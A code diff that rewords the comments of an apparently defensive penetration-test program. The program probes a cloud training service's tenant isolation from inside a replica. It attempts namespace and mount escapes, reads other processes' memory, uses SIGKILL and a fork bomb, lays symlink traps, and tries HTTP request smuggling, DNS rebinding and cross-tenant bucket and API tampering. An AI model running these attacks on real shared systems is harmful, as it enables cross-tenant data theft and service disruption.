@@ -1,12 +1,11 @@
-"""A program of a job that means harm: tries everything, harms nothing that is not its own, says what came of
-it.
+"""A hostile program: it tries all attacks, damages nothing but its own files, and reports the results.
 
-Standard library only: it runs in a replica. What it is to aim at is JSON in the variable TARGET. It prints
-`VERDICTS` and a JSON object: for each attempt what it got hold of, "" if nothing. Whatever would do damage is
-only proven to be possible (a file opened for writing and not written, signal 0 to others).
+It uses only the standard library, because it runs in a replica. The variable TARGET contains its targets as
+JSON. It prints `VERDICTS` and a JSON object: for each attempt the data obtained, or "". Destructive attempts
+are only proved possible (a file opened for writing but not written, signal 0 to other processes).
 
-It runs twice: the first time it lays traps for its own restart and kills itself. One file over 600 lines: it
-goes into its job as the one argument of `python3 -c`.
+It runs twice: the first time it prepares traps for its own restart and kills itself. The file has over 600
+lines because it is a single argument of `python3 -c`.
 """
 
 import base64
@@ -28,10 +27,10 @@ import urllib.parse
 
 TARGET = json.loads(os.environ["TARGET"])
 CANARY = re.compile(rb"canary-[0-9a-f]{32}")
-"""What others keep to themselves has one of these in it."""
+"""Marks in private data of other users."""
 HOME = os.environ["HOME"]
 KEPT = ("hypertune", "tmp")
-"""Its directories that the service shows in other places."""
+"""Its directories that the service mounts in other places."""
 ENDPOINT = os.environ["GCE_METADATA_HOST"]
 MAIN = os.getpid()
 NAMESPACED = TARGET["level"] != "session"
@@ -40,7 +39,7 @@ HANDLES = [
     for name in os.listdir("/proc/self/fd")
     if int(name) > 2 and os.path.lexists("/proc/self/fd/" + name)
 ]
-"""What is open besides its streams when it begins."""
+"""Open descriptors at its start, except its streams."""
 libc = ctypes.CDLL(None, use_errno=True)
 
 NEWNS, NEWUSER = 0x20000, 0x10000000
@@ -48,7 +47,7 @@ BIND, REMOUNT, DETACH = 0x1000, 0x20, 2
 PTRACE_SEIZE = 0x4206
 
 
-# --- means ---
+# --- helpers ---
 
 
 def said(data):
@@ -56,7 +55,7 @@ def said(data):
 
 
 def in_child(attempt, *arguments):
-    """What an attempt came to that may change or end the process it is made in."""
+    """Run an attempt that may change or end its process; return the result."""
     reader, writer = os.pipe()
     child = os.fork()
     if child == 0:
@@ -72,7 +71,7 @@ def in_child(attempt, *arguments):
 
 
 def first(attempt, candidates):
-    """The first candidate that an attempt gets anything of."""
+    """Return the first successful result of an attempt over candidates."""
     for candidate in candidates:
         with contextlib.suppress(OSError, http.client.HTTPException, ValueError):
             if result := attempt(candidate):
@@ -81,7 +80,7 @@ def first(attempt, candidates):
 
 
 def read(path):
-    """Something of a file or a directory; "" for one that is empty."""
+    """Return a part of a file or a directory, or "" if it is empty."""
     if os.path.isdir(path):
         return ", ".join(os.listdir(path)[:3])
     if stat.S_ISSOCK(os.stat(path).st_mode):
@@ -98,7 +97,7 @@ def can_write(path):
 
 
 def ask(place, verb, path, body=None, token="", headers=()):
-    """(status, body) of an HTTP request to a host and port."""
+    """Return (status, body) of an HTTP request to a host and port."""
     connection = http.client.HTTPConnection(place, timeout=20)
     try:
         sent = {"Host": place, **dict(headers)}
@@ -120,7 +119,7 @@ def metadata(place):
 
 
 def raw(place, *lines):
-    """What a server answers to bytes that are no request of a client's."""
+    """Return a server's answer to malformed bytes."""
     host, port = place.split(":")
     with socket.create_connection((host, int(port)), timeout=10) as connection:
         connection.sendall(b"".join(lines))
@@ -156,8 +155,7 @@ def elsewhere():
 
 
 def traps():
-    """Links that were laid before the restart, in whose place the service shows directories: do they lead
-    anywhere?"""
+    """Symlink attack: links created before the restart, in place of directories that the service mounts."""
     places = ["/var/hypertune", "/tmp", "/var/tmp", os.environ["TMPDIR"]]
     places += [f"{HOME}/{name}" for name in KEPT]
     databases = [place + "/trainshed.db" for place in places if not os.path.islink(place)]
@@ -165,7 +163,7 @@ def traps():
 
 
 def hidden():
-    """Whether anything of the service is to be seen, by its own path or below another root."""
+    """Return whether any file of the service is visible, by its own path or below another root."""
     roots = [""] + [f"/proc/{pid}/{kind}" for pid in pids() for kind in ("root", "cwd")]
     return first(read, [root + path for root in roots for path in TARGET["service_files"]])
 
@@ -192,7 +190,7 @@ def undo_mounts():
             libc.unshare(NEWNS)
         copy = os.path.join(HOME, "work", "copy")
         os.makedirs(copy, exist_ok=True)
-        # A bind without what is mounted below would show what the mounts cover; an overlay likewise.
+        # A bind without submounts would show covered files, and so would an overlay.
         libc.mount(b"/", copy.encode(), None, BIND, None)
         if result := first(read, [copy + path for path in TARGET["service_files"]]):
             return "a second bind, " + result
@@ -209,7 +207,7 @@ def undo_mounts():
         return hidden()
 
     def by_handle():
-        """The root directory of the file system itself, as open_by_handle_at(2) finds it by its number."""
+        """Open the root directory of the file system by its number with open_by_handle_at(2)."""
         described = ctypes.create_string_buffer(8 + 8)
         ctypes.memmove(described, (8).to_bytes(4, "little") + (1).to_bytes(4, "little"), 8)
         ctypes.memmove(ctypes.addressof(described) + 8, (2).to_bytes(8, "little"), 8)
@@ -227,7 +225,7 @@ def undo_mounts():
 
 
 def disks():
-    """The disk below the file system, the kernel's memory."""
+    """Read the disk below the file system, and the kernel's memory."""
     place = os.path.join(HOME, "work", "disk")
 
     def make():
@@ -250,7 +248,7 @@ def set_user_bits():
 
 
 def own_limits():
-    """Whether the replica's own limits can be changed, or left."""
+    """Change or leave the replica's own limits."""
     places = []
     with open("/proc/self/cgroup") as file:
         for line in file:
@@ -281,7 +279,7 @@ def pids():
 
 
 def others():
-    """Processes that are not ours: the shim, the relay, and whatever else is to be seen."""
+    """Return other visible processes: the shim, the relay, and all others."""
     children = {MAIN}
     for pid in sorted(pids()):
         with contextlib.suppress(OSError), open(f"/proc/{pid}/stat") as file:
@@ -291,20 +289,20 @@ def others():
 
 
 def see_processes():
-    """Other jobs' processes and the service's."""
+    """Return processes of other jobs and of the service."""
     if NAMESPACED:
         own = {MAIN, 1}
         names = {}
         for pid in set(pids()) - own:
             with contextlib.suppress(OSError), open(f"/proc/{pid}/comm") as file:
                 names[pid] = file.read().strip()
-        # Our own relay is one of ours, as far as that goes.
+        # The replica's own relay does not count.
         return ", ".join(name for name in names.values() if not name.startswith("ts-"))
     return first(lambda pid: read(f"/proc/{pid}/cmdline"), TARGET["others_pids"])
 
 
 def spy():
-    """Memory, environment, files of processes that are not ours."""
+    """Read memory, environment and files of other processes."""
 
     def pry(pid):
         for name in ("environ", "mem", "fd", "root/", "cwd/"):
@@ -313,7 +311,7 @@ def spy():
                 if name == "mem":
                     os.close(os.open(path, os.O_RDWR))
                 elif name == "fd":
-                    # Open handles of others could be reopened.
+                    # Open handles of other processes could be reopened.
                     os.stat(path + "/0")
                 elif not read(path):
                     continue
@@ -327,7 +325,7 @@ def spy():
 
 def send_signals():
     if NAMESPACED:
-        # The first process of the namespace: it would take all others with it.
+        # Not the first process of the namespace: it would end all others.
         with contextlib.suppress(OSError):
             os.kill(1, signal.SIGKILL)
     known = set(pids()) if NAMESPACED else set()
@@ -353,11 +351,11 @@ def fork_bomb():
     return f"{len(made)} processes"
 
 
-# --- what it was forked from, if it began warm ---
+# --- the preloader, if it started warm ---
 
 
 def reach_preloader():
-    """Its sockets, its processes: by the machine's numbers and by whatever is to be seen of it."""
+    """Use its sockets and processes, by the machine's process IDs and by visible ones."""
     seen = []
     for pid in set(pids()) - {MAIN}:
         with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline") as file:
@@ -381,10 +379,10 @@ def reach_preloader():
 
 
 def kept_by_fork():
-    """Handles but its own streams, memory that is written by others as well, secrets of others in its own."""
+    """Find inherited handles, memory shared for writing, and other users' secrets in its own memory."""
     if HANDLES:
         return f"handles {HANDLES}"
-    own = b"canary-" + b"0" * 32  # What is found is found where it lies.
+    own = b"canary-" + b"0" * 32  # Report the location of a finding.
     seen = set()
     with open("/proc/self/maps") as file:
         areas = file.read().splitlines()
@@ -406,7 +404,7 @@ def change_interpreter():
     with contextlib.suppress(OSError):
         os.chmod(path, os.stat(path).st_mode & 0o7777)
         return "its mode"
-    # As long as it runs nobody can open it for writing; whether one could, otherwise, the kernel does say.
+    # A running file cannot be opened for writing, but the kernel's error shows whether it otherwise could.
     return os.access(path, os.W_OK) and "open to be written to"
 
 
@@ -455,8 +453,7 @@ def batch(place, token):
 
 
 def staged():
-    """Replace or delete what clients have staged for other projects, or make the bucket that they will be
-    given."""
+    """Replace or delete staged code of other projects, or create the bucket that they will get."""
     token, own = metadata(ENDPOINT), TARGET["own_bucket"]
     wheel = TARGET["staged"]
     name = wheel.replace("/", "%2F")
@@ -491,7 +488,7 @@ def staged():
 
 
 def steal(place, token):
-    """Anything of the other bucket's by requests to a server."""
+    """Read or change the other bucket by requests to a server."""
     for headers in ({}, {"X-Trainshed-Identity": IDENTITY}):
         for path in paths_of_others():
             with contextlib.suppress(http.client.HTTPException):
@@ -532,7 +529,7 @@ def by_ports():
             return f"{place}: {result}"
         if CANARY.search(raw(place, line, ask_for)):
             return f"{place}: a preamble"
-        # Two requests where a careless gateway sees one.
+        # Request smuggling: two requests where a careless gateway sees one.
         smuggled = (
             b"POST /storage/v1/b HTTP/1.1\r\nHost: x\r\n"
             b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
@@ -545,7 +542,7 @@ def by_ports():
 
 
 def by_other_endpoint():
-    """The other job's own endpoint knows no token: who calls is whom it believes."""
+    """Confused deputy: the other job's endpoint needs no token and identifies callers by their connection."""
     place = TARGET["other_endpoint"]
 
     def attempt(path):
@@ -559,7 +556,9 @@ def by_other_endpoint():
 
 
 def by_links():
-    """What the service reads for us, where we put links to what we may not read."""
+    """Return files that the service reads for this job, after replacing them with links to
+    forbidden files.
+    """
     where = own_bucket_directory()
     if not where:
         return ""
@@ -581,7 +580,7 @@ def by_links():
     status, body = ask(ENDPOINT, "GET", f"/storage/v1/b/{own}/o?prefix=dir/")
     if status == 200 and json.loads(body).get("items"):
         return "a list"
-    # And to write through one.
+    # The same for writing through a link.
     ask(ENDPOINT, "POST", f"/upload/storage/v1/b/{own}/o?uploadType=media&name=dir%2Fplanted", b"x")
     return TARGET["planted"] and os.path.exists(TARGET["planted"]) and "written"
 
@@ -596,14 +595,14 @@ def abstract_sockets():
 
 
 def loopback():
-    """Servers of this machine, other jobs' among them."""
+    """Reach servers of this machine, including those of other jobs."""
     host = TARGET["other_endpoint"].split(":")[0]
     with socket.create_connection((host, TARGET["other_port"]), timeout=10):
         return "connected"
 
 
 def others_address():
-    """As anybody would, and by an address that changes while it is looked at."""
+    """Make requests as any host, and DNS rebinding: an address that changes after its check."""
     host = TARGET["other_endpoint"].split(":")[0]
     return first(lambda way: way(host), [bind_plainly, bind_in_a_race])
 
@@ -649,7 +648,7 @@ def daemons():
 
 
 def api(token):
-    """What can be learned of, or done to, others by the service's own API."""
+    """Read or change other jobs through the service's own API."""
     own, other, job = TARGET["own_project"], TARGET["other_project"], TARGET["other_job"]
     mine = TARGET["own_job_parent"] + "/" + os.environ["CLOUD_ML_JOB_ID"]
     region = "locations/us-central1"
@@ -672,7 +671,7 @@ def api(token):
     ]
     for path in reads:
         status, body = ask(TARGET["rest"], "GET", path, token=token)
-        # Without a project its own is meant.
+        # Without a project, the job's own is used.
         is_own = path == "/trainshed/v1/jobs" and other.encode() not in body
         if status == 200 and not is_own and body.strip() not in (b"", b"{}"):
             return f"{path}: {said(body[:60])}"
@@ -693,7 +692,7 @@ def api(token):
     ]
     for verb, path, body in writes:
         status, answer = ask(TARGET["rest"], verb, path, body, token)
-        # Refused for what it says is refused too late: it was let in.
+        # An error about the contents comes too late: the caller was authorized.
         if status not in (401, 403, 404, 405):
             return f"{verb} {path}: {status} {said(answer[:200])}"
     return ""
@@ -757,7 +756,7 @@ if "preloaders" in TARGET:
 
 
 def controls():
-    """What must succeed, or the attempts prove nothing."""
+    """Operations that must succeed, because otherwise the attempts prove nothing."""
     token = metadata(ENDPOINT)
     mine = TARGET["own_job_parent"] + "/" + os.environ["CLOUD_ML_JOB_ID"]
     own = TARGET["own_bucket"]
@@ -771,17 +770,17 @@ def controls():
 
 
 def lay_traps():
-    """What the service will find when it starts this program again."""
+    """Prepare traps that the service meets when it restarts this program."""
     for name in KEPT:
         place = os.path.join(HOME, name)
-        # In its place there may be a mount; then it is its name at home that counts.
+        # Its path may be a mount point; then use its name in the parent directory.
         with contextlib.suppress(OSError):
             os.rename(place, place + ".old")
             os.symlink(TARGET["data"], place)
     for number, path in enumerate(TARGET["link_targets"]):
         with contextlib.suppress(OSError):
             os.symlink(path, os.path.join(HOME, "work", f"trap{number}"))
-    # Deeper than whoever clears up after us can follow.
+    # A tree too deep for a recursive cleanup.
     here = os.open(os.path.join(HOME, "work"), os.O_RDONLY)
     for _ in range(1100):
         os.mkdir("deep", dir_fd=here)
@@ -807,7 +806,7 @@ def main():
     print("WHY " + json.dumps(why))
     print("CONTROLS " + json.dumps(controls()))
     print("VERDICTS " + json.dumps(results), flush=True)
-    # Whoever has heard it writes an object.
+    # A reader of the notification writes an object.
     while ask(ENDPOINT, "GET", f"/storage/v1/b/{TARGET['own_bucket']}/o/heard")[0] != 200:
         time.sleep(0.1)
     flood()
@@ -815,7 +814,7 @@ def main():
 
 
 def flood():
-    """A line without an end, and then more than anybody will read."""
+    """Write a line without an end, and then more than any reader accepts."""
     for block in (b"x" * (1 << 20), b"a line\n" * 100_000):
         for _ in range(TARGET["flood"]):
             os.write(1, block)
